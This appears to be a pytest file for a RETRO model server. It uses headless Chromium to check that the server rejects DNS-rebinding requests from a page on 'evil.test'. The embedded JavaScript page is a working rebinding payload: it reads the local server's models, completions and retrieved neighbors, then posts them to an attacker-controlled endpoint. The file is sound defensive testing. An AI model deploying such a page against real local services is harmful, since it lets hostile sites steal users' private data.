# Copyright 2026 The RETRO for Hugging Face authors. All rights reserved.
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.
"""What the page of a stranger gets from the server in a real browser, Chromium."""

import json
import os
import shutil
import signal
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from tiny_server import running, save_model

from serving.load import load_served_model


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = [pytest.mark.slow, pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium")]

# The page asks until another server than its own answers under its name. It sends what it could read to its author.
PAGE = """<script>
const body = {model: "tiny", prompt: "retro looks things up in a datastore, retro looks", max_tokens: 1,
              include_neighbors: true};
const post = {method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify(body)};
const get = (url, options) => fetch(url, options).then(async r => [r.status, await r.text()], e => [0, String(e)]);
(async () => {
  let models = [0, ""];
  while (models[0] === 0 || models[1].includes("the author")) {
    await new Promise(done => setTimeout(done, 200));
    models = await get("/v1/models");
  }
  const seen = {origin: location.origin, models, completion: await get("/v1/completions", post)};
  const other = "http://127.0.0.1:" + location.port;
  seen.other_models = await get(other + "/v1/models");
  seen.other_completion = await get(other + "/v1/completions", post);
  await fetch("AUTHOR", {method: "POST", mode: "no-cors", body: JSON.stringify(seen)});
})();
</script>"""


class Author:
    """The server of the page, which receives what the page has read."""

    def __init__(self, page=""):
        self.received, self.report = threading.Event(), None

        class Handler(BaseHTTPRequestHandler):
            def do_GET(handler):  # noqa: N802, N805
                text = (page if handler.path == "/" else "the author").encode()
                handler.send_response(200)
                handler.send_header("Content-Type", "text/html")
                handler.send_header("Content-Length", str(len(text)))
                handler.end_headers()
                handler.wfile.write(text)
                if handler.path == "/":
                    self.received.set()

            def do_POST(handler):  # noqa: N802, N805
                self.report = json.loads(handler.rfile.read(int(handler.headers["Content-Length"])))
                handler.send_response(204)
                handler.end_headers()
                self.received.set()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def visit(tmp_path, datastore_dir, **options):
    """What the page of http://evil.test reads after its name leads to the server, which has these options."""
    folder = save_model("joint", datastore_dir, tmp_path / "tiny")
    served = load_served_model(str(folder), str(datastore_dir))
    author = Author()
    first = Author(PAGE.replace("AUTHOR", f"http://127.0.0.1:{author.port}/"))
    words = [CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp_path / 'profile'}"]
    words += ["--host-resolver-rules=MAP evil.test 127.0.0.1", f"http://evil.test:{first.port}/"]
    quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL, "start_new_session": True}
    browser = subprocess.Popen(words, **quiet)
    try:
        assert first.received.wait(120)
        first.close()
        with running(served, port=first.port, **options):
            assert author.received.wait(120)
    finally:
        os.killpg(browser.pid, signal.SIGKILL)
        browser.wait()
        author.close()
    assert author.report.pop("origin") == f"http://evil.test:{first.port}"
    return author.report


@pytest.mark.hostile(
    "a page of http://evil.test in Chromium, whose name leads to the server after it was loaded, and which asks the "
    "server by its address too",
    "it reads no model, neighbor or answer; the same page reads them with `--allowed_hosts evil.test`",
)
def test_a_page_whose_name_leads_to_the_server_reads_nothing(tiny_datastore_dir, tmp_path):
    seen = visit(tmp_path, tiny_datastore_dir)
    assert seen["models"][0] == seen["completion"][0] == 421 and "neighbors" not in seen["completion"][1]
    assert seen["other_models"] == seen["other_completion"] == [0, "TypeError: Failed to fetch"]


def test_the_page_reads_if_the_server_is_told_its_name(tiny_datastore_dir, tmp_path):
    """The same page without the check: the test above can fail."""
    seen = visit(tmp_path, tiny_datastore_dir, allowed_hosts=["evil.test"])
    assert seen["models"][0] == seen["completion"][0] == 200 and "neighbors" in seen["completion"][1]
    assert seen["other_models"] == seen["other_completion"] == [0, "TypeError: Failed to fetch"]


def test_the_page_reads_from_its_own_origin_if_that_is_allowed(tiny_datastore_dir, tmp_path):
    seen = visit(tmp_path, tiny_datastore_dir, allow_origins=["*"])
    assert seen["models"][0] == 421
    assert seen["other_models"][0] == seen["other_completion"][0] == 200
    assert "neighbors" in seen["other_completion"][1]
